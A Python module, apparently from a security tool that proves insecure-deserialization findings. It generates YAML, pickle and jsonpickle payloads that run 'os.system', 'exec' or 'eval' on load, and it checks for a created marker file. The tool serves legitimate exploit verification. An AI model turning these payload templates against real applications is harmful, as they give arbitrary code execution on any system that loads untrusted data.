"""Documents that become objects: a call that one of them names leaves a file behind.

The format is read from the code around the sink.
"""

from __future__ import annotations

import re
from pathlib import Path

from buckler.finding.evidence import ProofKind
from buckler.prove.model import Attack, Oracle, Probe, ProofRecipe, SinkContext

PROBE = Path(__file__).with_name("probe.py")
MAKE = "__import__('os').system('touch {marker}')"
YAML_ROWS = (
    ("!!python/object/apply:os.system ['touch {marker}']", "a call"),
    ("!!python/object/new:os.system ['touch {marker}']", "a new object"),
    ("!!python/object/apply:subprocess.check_output [['touch', '{marker}']]", "another call"),
    ("!!python/object/apply:builtins.open ['{marker}', 'w']", "a builtin"),
    ("!!python/object/apply:builtins.open\x85['{marker}','w']", "a builtin and no space"),
    (
        f'!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ["{MAKE}"]]]',
        "a function by its name",
    ),
    (
        (
            "!!python/object/new:type\nargs: [z, !!python/tuple [], {{extend: !!python/name:exec }}]\n"
            f'listitems: "{MAKE}"\n'
        ),
        "a class with a method of the attacker's choice",
    ),
)
OBJECT = "pickle.dumps(Leaves(marker))"
PICKLED = [
    Attack(OBJECT, "a pickled object"),
    Attack(f"base64.b64encode({OBJECT}).decode()", "a pickled object in base64"),
    Attack(f"base64.urlsafe_b64encode({OBJECT}).decode()", "a pickled object in URL-safe base64"),
    Attack(f"{OBJECT}.hex()", "a pickled object in hexadecimal"),
    Attack("pickle.dumps(Leaves(marker), 0).decode('latin-1')", "a pickled object of the oldest protocol"),
]
JSON = [
    Attack(
        'json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [f"touch {marker}"]}]})',
        "a jsonpickle document",
    ),
    Attack('json.dumps({"py/object/apply:os.system": [f"touch {marker}"]})', "another jsonpickle document"),
]
PLAIN = "pickle.dumps({'name': 'report'})"


def attacks(situation: SinkContext) -> list[Attack]:
    code = words_around(situation)
    encoding = ".encode()" if situation.approach.kind == "bytes" else ""
    yaml = [Attack(f"f{text!r}{encoding}", f"a YAML document with {label}") for text, label in YAML_ROWS]
    if "yaml" in code:
        return yaml + PICKLED
    if "jsonpickle" in code or "decode(" in code:
        return JSON + PICKLED + yaml
    return PICKLED + yaml + JSON


def documents(situation: SinkContext) -> list[Attack]:
    code = words_around(situation)
    if "yaml" in code:
        rows = ["'name: report'"]
    elif "json" in code:
        rows = ['\'{"name": "report"}\'']
    elif re.search(r"b64|base64", code):
        rows = [f"base64.urlsafe_b64encode({PLAIN}).decode()", f"base64.b64encode({PLAIN}).decode()"]
    else:
        rows = [PLAIN, "'name: report'"]
    return [Attack(row, "a plain document") for row in rows]


def words_around(situation: SinkContext) -> str:
    return " ".join((situation.code, *situation.near)).lower()


SERIALIZED = Oracle(
    ProofKind.EXPLOIT,
    "loading the document ran a call of the attacker's choice",
    Probe(PROBE),
    attacks,
    documents,
    imports=("import base64", "import json", "import pickle"),
)
PROOF = ProofRecipe(lambda _: [SERIALIZED], document=".yaml")
